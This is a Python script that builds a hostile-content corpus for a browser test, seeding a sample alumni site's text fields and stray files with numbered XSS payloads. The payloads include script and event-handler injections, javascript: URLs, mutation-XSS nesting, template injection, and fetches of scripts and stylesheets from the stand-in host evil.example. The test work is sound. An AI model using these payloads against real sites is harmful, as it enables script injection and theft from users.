#!/usr/bin/env python3
"""The hostile-content corpus (#15): a small sample university in which every free-text field
of every collection holds attack payloads, for the browser test that builds it and fails if
any payload runs, any request leaves 127.0.0.1, or any hostile file is published.

    python3 scripts/hostile/corpus.py CONTENT_DIR   # a folder made by `homecoming sample`

Each payload carries its number N: a script that runs calls `__pwned(N)`, markup that lands
in the page as markup carries `data-pwn`, and a fetch from another host asks for
`evil.example/N`. Links and file names are not varied here: the checker refuses hostile
ones (crates/check/tests/hostile_files.rs), so a site holding them is never built. Files
that no record names (an HTML page, an SVG with a script) are added to check they are never
published.
"""
import json
import os
import sys

PAYLOADS = [
    "<script>__pwned(N)</script>",
    "<img src=x onerror=__pwned(N) data-pwn>",
    "\"><img src=x onerror=__pwned(N) data-pwn>",
    "'><svg onload=__pwned(N) data-pwn>",
    "</script><script>__pwned(N)</script>",
    "</title><script>__pwned(N)</script>",
    "</textarea><script>__pwned(N)</script>",
    "<iframe src=\"javascript:__pwned(N)\" data-pwn></iframe>",
    "<a href=\"javascript:__pwned(N)\" data-pwn>x</a>",
    "[link](javascript:__pwned(N))",
    "[link](//evil.example/N)",
    "![px](https://evil.example/N.gif)",
    "![px](//evil.example/N.gif)",
    "<img src=\"https://evil.example/N.gif\" data-pwn>",
    "<style>@import url(https://evil.example/N.css)</style>",
    "<link rel=stylesheet href=https://evil.example/N.css data-pwn>",
    "<object data=\"https://evil.example/N\" data-pwn></object>",
    "<embed src=\"https://evil.example/N\" data-pwn>",
    "<base href=\"https://evil.example/N/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/N\">",
    "<form action=\"https://evil.example/N\" data-pwn><button>go</button></form>",
    "<details open ontoggle=__pwned(N) data-pwn>",
    "<body onload=__pwned(N)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned(N) data-pwn>",
    "<noscript><p title=\"</noscript><img src=x onerror=__pwned(N) data-pwn>\">",
    "{{constructor.constructor('__pwned(N)')()}}",
    "${__pwned(N)}",
    "\u2028\u2029<script>__pwned(N)</script>",
    "<svg><animate onbegin=__pwned(N) attributeName=x dur=1s data-pwn>",
    "<video><source onerror=__pwned(N) data-pwn></video>",
    "<!--<img src=x onerror=__pwned(N) data-pwn>-->",
    "<x onclick=__pwned(N) data-pwn>click</x>",
    "javascript:__pwned(N)",
    "\" onmouseover=\"__pwned(N)\" data-x=\"",
    "<script src=\"https://evil.example/N.js\"></script>",
    "<img srcset=\"x 1w, https://evil.example/N.gif 2w\" data-pwn>",
    "<a href=\"data:text/html,<script>__pwned(N)</script>\" data-pwn>d</a>",
    "]]><script>__pwned(N)</script>",
]

# Free-text fields of each collection (what staff and, soon, alumni write).
TEXT = {
    "alumni": ["name", "name_latin", "nickname", "city", "employer", "job_title", "bio", "degree"],
    "timeline": ["title", "story"],
    "gallery": ["title", "place", "description"],
    "events": ["title", "summary", "description"],
    "careers": ["title", "summary", "body", "author_name"],
    "opportunities": ["title", "employer", "location", "summary"],
    "funds": ["name", "description", "impact", "founder_name"],
    "stories": ["title", "summary", "body", "photo_alt"],
    "consultations": ["title", "question", "background", "heard", "did"],
    "chapters": ["city", "about"],
}


def payload(i):
    return PAYLOADS[i % len(PAYLOADS)].replace("N", str(i))


def load(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f)


def save(path, value):
    with open(path, "w", encoding="utf-8") as f:
        json.dump(value, f, ensure_ascii=False, indent=2)
        f.write("\n")


def template(folder, pick=lambda r: True):
    for name in sorted(os.listdir(folder)):
        rec = load(os.path.join(folder, name))
        if pick(rec):
            return rec
    raise SystemExit(f"no template record in {folder}")


def main():
    content = sys.argv[1]
    n = len(PAYLOADS)
    count = 0

    site = load(os.path.join(content, "site.json"))
    site["tagline"] = "Hostile " + " ".join(payload(i) for i in range(4))
    site["contacts"][0]["label"] = payload(5)
    save(os.path.join(content, "site.json"), site)

    # Alumni: every text field of person i holds payload i (and its neighbours in lists).
    alumni = os.path.join(content, "alumni")
    person = template(alumni, lambda r: r["consent"]["listed"] and "industry" in r)
    for i in range(n):
        rec = json.loads(json.dumps(person))
        rec["id"] = f"hostile-{i}"
        for field in TEXT["alumni"]:
            rec[field] = f"Hostile {i} {payload(i)}" if field == "name" else payload(i)
        rec["former_names"] = [payload(i + 1)]
        rec["mentor"] = {"capacity": 1, "topics": [payload(i + 2)], "languages": [payload(i + 3)]}
        rec.pop("photo", None)
        rec["consent"] = {"listed": True, "public": [
            "name_latin", "former_names", "nickname", "city", "country", "employer",
            "job_title", "industry", "bio", "chapters", "contact", "mentoring", "roles"]}
        save(os.path.join(alumni, f"hostile-{i}.json"), rec)
        count += len(TEXT["alumni"]) + 3

    for folder in ["timeline", "events", "careers", "opportunities", "funds", "stories", "consultations"]:
        path = os.path.join(content, folder)
        base = template(path)
        for i in range(n):
            rec = json.loads(json.dumps(base))
            rec["id"] = f"hostile-{i}"
            for field in TEXT[folder]:
                rec[field] = payload(i)
            if folder == "careers":
                rec.pop("author", None)
            if folder == "funds":
                rec.pop("founder", None)
            if folder == "stories":
                rec.pop("alumnus", None)
            if folder == "opportunities":
                rec["expires"] = "2099-12-31"
            if folder == "events" and "venue" in rec:
                rec["venue"]["name"] = payload(i + 1)
                rec["venue"]["address"] = payload(i + 2)
            save(os.path.join(path, f"hostile-{i}.json"), rec)
            count += len(TEXT[folder])

    # Chapters' pages (their ids are site.json's), led by hostile people in hostile roles.
    chapters = os.path.join(content, "chapters")
    for j, name in enumerate(sorted(os.listdir(chapters))):
        rec = load(os.path.join(chapters, name))
        i = j % n
        for field in TEXT["chapters"]:
            if field in rec or field == "about":
                rec[field] = payload(i)
        rec["leaders"] = [{"alumnus": f"hostile-{i}", "role": payload(i + 1)}]
        save(os.path.join(chapters, name), rec)
        count += 3
    # Gifts recognised by name, with a hostile band and note; the council in hostile roles.
    giving = os.path.join(content, "giving")
    for i in range(n):
        save(os.path.join(giving, f"hostile-{i}.json"), {"id": f"hostile-{i}", "alumnus": f"hostile-{i}", "kind": "volunteer",
             "year": 2026, "recognition": "name", "band": payload(i + 1), "note": payload(i)[:120]})
        count += 2
    voice = load(os.path.join(content, "voice.json"))
    voice["council"]["name"] = payload(3)
    voice["council"]["about"] = payload(4)
    voice["council"]["members"] = [{"alumnus": f"hostile-{i}", "role": payload(i), "from": 2024, "to": 2027} for i in range(n)]
    voice["representatives"] = [{"alumnus": "hostile-1", "role": payload(5), "body": payload(6), "from": 2025, "to": 2028}]
    voice["documents"][0]["title"] = payload(7)
    save(os.path.join(content, "voice.json"), voice)
    count += n + 6

    # One album whose photos carry the payloads in caption and place.
    gallery = os.path.join(content, "gallery")
    album = template(gallery)
    album["id"] = "hostile"
    for field in TEXT["gallery"]:
        album[field] = payload(7)
    first = album["photos"][0]
    photos = []
    for i in range(n):
        ph = dict(first)
        ph["id"] = f"p{i}"
        ph["caption"] = payload(i)
        ph["place"] = payload(i + 1)
        ph["people"] = []
        ph.pop("timeline", None)
        photos.append(ph)
    album["photos"] = photos
    album["cover"] = "p0"
    album["pairs"] = []
    save(os.path.join(gallery, "hostile.json"), album)
    count += 2 * n + 3

    # Active files no record names: none may be published.
    for rel, text in [
        ("gallery/photos/evil.html", "<script>__pwned(999)</script>"),
        ("gallery/photos/evil.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='__pwned(998)'/>"),
        ("careers/files/evil.html", "<script>__pwned(997)</script>"),
        ("site/evil.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>__pwned(996)</script></svg>"),
    ]:
        os.makedirs(os.path.dirname(os.path.join(content, rel)), exist_ok=True)
        with open(os.path.join(content, rel), "w") as f:
            f.write(text)
    print(f"hostile corpus: {n} payloads, {count} hostile field values, 4 active files, in {content}", file=sys.stderr)


if __name__ == "__main__":
    main()
